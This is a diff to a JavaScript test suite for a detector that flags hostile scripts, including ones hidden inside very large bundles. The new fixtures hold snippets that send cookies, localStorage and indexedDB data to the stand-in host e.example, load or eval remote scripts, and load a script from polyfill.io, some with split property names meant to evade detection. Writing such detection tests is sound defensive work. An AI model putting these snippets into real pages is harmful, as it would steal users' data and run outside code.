@@ -23,6 +23,10 @@ describe('the checks hold a script', () => {
     ['that makes a page of decoded code', 'frame.srcdoc = "<script>" + atob(text) + "</" + "script>";'],
     ['that sends a callback’s argument', 'indexedDB.databases().then((l) => fetch("https://e.example", { body: l }));'],
     [
+      'that loads a script of a host that has served malicious ones',
+      'const s = document.createElement("script"); s.src = "https://polyfill.io/v3/polyfill.min.js"; document.head.append(s);',
+    ],
+    [
       'that names storage and sender in pieces',
       'const s = window["local" + "Storage"]; navigator["send" + "Beacon"]("//e.example/b", JSON.stringify(s));',
     ],
@@ -370,6 +374,25 @@ describe('the checks of large scripts', () => {
     const code = 'fetch("https://e.example/a.js").then((r) => r.text()).then((t) => (0, eval)(t));';
     expect(isHeldIn(bundle(100_000) + code)).toBe(true);
     expect(isHeldIn(bundle(1_100_000) + code)).toBe(true);
+  });
+
+  it.each([
+    [
+      'hides what it reads',
+      'const secret = document["coo" + "kie"];\nnavigator.sendBeacon("https://e.example/", secret);',
+    ],
+    [
+      'sends what it has read in another statement',
+      'const values = {};\nfor (const key of Object.keys(localStorage)) values[key] = localStorage.getItem(key);\nnew Image().src = "https://e.example/?" + JSON.stringify(values);',
+    ],
+    [
+      'loads a script',
+      'const more = document.createElement("script");\nmore.src = "https://e.example/a.js";\ndocument.head.append(more);',
+    ],
+  ])('hold one that is too large to be followed and %s', (_what, steps) => {
+    const half = bundle(600_000);
+    expect(isHeldIn(`${half}${steps}\n${half}`)).toBe(true);
+    expect(isHeldIn(`${half}${half}${steps}\n`)).toBe(true);
   });
 
   it('follow short statements after one that takes all steps', () => {
